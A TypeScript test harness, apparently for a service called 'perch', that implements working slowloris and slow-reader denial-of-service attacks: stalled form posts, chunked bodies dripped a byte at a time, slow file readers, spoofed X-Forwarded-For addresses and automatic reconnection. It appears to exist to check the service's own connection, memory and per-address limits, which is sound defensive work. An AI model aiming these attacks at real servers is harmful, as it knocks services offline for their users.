import { connect, type Socket } from 'node:net';

/** One way in which a single client may try to take the service from all others. */
export interface Attack {
  name: string;
  connections: SlowConnections;
}

/** The head of a request, as a proxy passes it on for a client. */
const head = (line: string, client: string, headers: readonly string[] = []): string =>
  [
    `${line} HTTP/1.1`,
    'Host: perch.localhost',
    'User-Agent: perch-attack/1',
    `X-Forwarded-For: ${client}`,
    ...headers,
    '',
    '',
  ].join('\r\n');

const CHUNKED = 'Transfer-Encoding: chunked';
const BYTE = '1\r\nx\r\n';

/** Forms that begin and then stand still: they hold requests under way. */
export const stalledForms = (client: string, count: number): Attack => ({
  name: 'stalled forms',
  connections: {
    count,
    opening: head('POST /report', client, [
      'Content-Type: application/x-www-form-urlencoded',
      'Content-Length: 100',
    ]),
    drip: 'x',
    sips: false,
    everyMs: 10_000,
  },
});

/** Pages as JSON of a length that is not announced, a byte at a time: they hold room in memory. */
export const slowPages = (client: string, count: number): Attack => ({
  name: 'slow pages',
  connections: {
    count,
    opening: `${head('POST /api/html', client, ['Content-Type: application/json', CHUNKED])}${BYTE}`,
    drip: BYTE,
    sips: false,
    everyMs: 10_000,
  },
});

/** Sites of a length that is not announced, a byte at a time: they hold room on the disk. */
export const slowSites = (client: string, count: number): Attack => ({
  name: 'slow sites',
  connections: {
    count,
    opening: `${head('POST /api/sites', client, ['Content-Type: application/zip', CHUNKED])}${BYTE}`,
    drip: BYTE,
    sips: false,
    everyMs: 10_000,
  },
});

/** Readers of a large file who take a little now and then, above the least pace: they hold connections to the store. */
export const slowReaders = (client: string, count: number, path: string): Attack => ({
  name: 'slow readers',
  connections: { count, opening: head(`GET ${path}`, client), drip: null, sips: true, everyMs: 30_000 },
});

/** The attacks, by name: how each is played and from which addresses. `largePath` leads to a large file. */
export const ATTACK_PROFILES = {
  /** More forms than a gateway takes requests, and bodies from a few addresses that would hold all memory and disk. */
  'slow-loris': (): Attack[] => [
    stalledForms('10.66.0.1', 5_100),
    ...[1, 2, 3, 4, 5].map((n) => slowPages(`10.66.1.${n}`, 2)),
    ...[1, 2, 3, 4].map((n) => slowSites(`10.66.2.${n}`, 2)),
  ],
  /** More readers of a large file than there are connections for that. */
  'slow-reader': (largePath: string): Attack[] => [slowReaders('10.66.0.1', 250, largePath)],
};

export type AttackProfile = keyof typeof ATTACK_PROFILES;

export const launch = (url: string, { connections }: Attack): RunningConnections =>
  openSlowConnections(url, connections);

/** Connections of one client that all do alike. */
interface SlowConnections {
  /** Number of connections. One that ends, or is answered with anything but content, is opened again a while later. */
  count: number;
  /** The bytes each sends first: a request, with the beginning of its body. */
  opening: string;
  /** The bytes each sends every `everyMs` from then on; `null`: none. */
  drip: string | null;
  /** Whether each reads a little of its answer every `everyMs`: what the runtime takes at once, half a megabyte. */
  sips: boolean;
  everyMs: number;
}

export interface RunningConnections {
  /** Connections open now. */
  open(): number;
  /** Answers begun so far, by status. */
  statuses: Map<number, number>;
  /** Connections that have ended so far. */
  ended(): number;
  stop(): void;
}

/** On average. Slowly, too: many at once would be a flood of requests, which the limits by address are for. */
const REOPEN_AFTER_MS = 10_000;

/** Opens so many connections and keeps them busy as slowly as they are told to. */
function openSlowConnections(url: string, slow: SlowConnections): RunningConnections {
  const { hostname, port } = new URL(url);
  const sockets = new Set<Socket>();
  const statuses = new Map<number, number>();
  let ended = 0;
  let isOver = false;
  const reopening = new Set<ReturnType<typeof setTimeout>>();

  const open = (): void => {
    const socket = connect(Number(port), hostname);
    let hasAnswer = false;
    sockets.add(socket);
    // Read by hand: what is not asked for stays with the server.
    socket.on('readable', () => {
      if (hasAnswer) return;
      const head: Uint8Array | null = socket.read(12) ?? socket.read();
      if (head === null) return;
      hasAnswer = true;
      const status = Number(Buffer.from(head).toString('latin1').split(' ')[1]);
      statuses.set(status, (statuses.get(status) ?? 0) + 1);
      if (status !== 200) socket.destroy();
    });
    socket.on('error', () => undefined);
    socket.once('connect', () => socket.write(slow.opening));
    // Not all at the same moment, which would hold up whoever else is in this process.
    let ticking = setTimeout(tick, slow.everyMs * Math.random());
    function tick(): void {
      if (slow.drip !== null && socket.writable) socket.write(slow.drip);
      if (slow.sips) socket.read();
      ticking = setTimeout(tick, slow.everyMs);
    }
    socket.once('close', () => {
      clearTimeout(ticking);
      sockets.delete(socket);
      if (isOver) return;
      ended += 1;
      const timer = setTimeout(
        () => {
          reopening.delete(timer);
          open();
        },
        REOPEN_AFTER_MS * (0.5 + Math.random()),
      );
      reopening.add(timer);
    });
  };
  for (let n = 0; n < slow.count; n++) open();

  return {
    open: () => sockets.size,
    statuses,
    ended: () => ended,
    stop() {
      isOver = true;
      for (const timer of reopening) clearTimeout(timer);
      for (const socket of sockets) socket.destroy();
    },
  };
}
